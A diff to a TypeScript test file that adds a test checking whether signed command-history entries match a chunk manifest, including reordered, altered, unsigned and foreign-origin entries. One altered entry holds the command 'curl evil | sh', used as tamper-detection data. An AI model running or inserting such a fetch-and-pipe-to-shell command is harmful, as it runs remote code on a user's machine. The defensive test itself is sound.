@@ -3,7 +3,7 @@ import { createHash } from 'node:crypto'
 import { generateKeyPair } from '@libp2p/crypto/keys'
 import { peerIdFromPrivateKey } from '@libp2p/peer-id'
 import { admitReceived } from '../../src/core/admit.js'
-import { chunkMessage, entryHash, signChunk, verifyChunk } from '../../src/core/chunk.js'
+import { ChunkHashes, chunkMessage, entryHash, signChunk, verifyChunk } from '../../src/core/chunk.js'
 import { entryFields, optionalEntryFields, type Entry } from '../../src/core/entry.js'
 import { canonicalEntryBytes, signBytes, type EntrySigner } from '../../src/core/signature.js'
 import { parseChunks, takeChunkRefs } from '../../src/protocol/messages.js'
@@ -76,6 +76,26 @@ test('admitting on 3.0.0: an entry is its chunk origin\'s iff the manifest verif
   const wire = [{ ...chunk, id: 7 }, { ...chunk, id: 9 }]
   const raw: unknown[] = [{ cmd: 'a', k: 9 }, { cmd: 'b' }, { cmd: 'c', k: 7, sig: 's' }, { cmd: 'd', k: 'x' }, { cmd: 'e', k: 3 }, { cmd: 'f', k: 7 }]
   t.deepEqual(takeChunkRefs(raw, wire), [1, undefined, -1, -1, -1, 0])
+})
+
+test('checking entries against a manifest: in order, out of order, twice; an altered entry, or one under another origin, is not in it', async (t) => {
+  const [a, b] = [await signer(), await signer()]
+  const entries = Array.from({ length: 40 }, (_, i) => entry({ cmd: `echo ${i}` }))
+  const chunk = signChunk(entries, a)
+  const inOrder = new ChunkHashes(chunk)
+  t.true(entries.every((e) => inOrder.has(e)))
+  const reversed = new ChunkHashes(chunk)
+  t.true([...entries].reverse().every((e) => reversed.has(e)))
+  const mixed = new ChunkHashes(chunk)
+  t.deepEqual([entries[3]!, entries[3]!, entries[0]!, entries[1]!, entries[39]!].map((e) => mixed.has(e)), [true, true, true, true, true])
+  const checks = new ChunkHashes(chunk)
+  t.true(checks.has(entries[0]!))
+  // The next expected hash is entries[1]'s: an altered copy of it is neither that one nor any other.
+  t.false(checks.has({ ...entries[1]!, cmd: 'echo 1 && curl evil | sh' }))
+  t.false(checks.has(entry({ cmd: 'never signed' })))
+  t.false(new ChunkHashes({ ...chunk, origin: b.origin }).has(entries[0]!), 'hashed under another origin')
+  t.false(checks.has({ ...entries[2]!, exit_code: 1.5 } as unknown as Entry), 'a malformed entry')
+  t.true(checks.has(entries[1]!))
 })
 
 test('chunks on the wire: malformed ones make the message malformed', async (t) => {
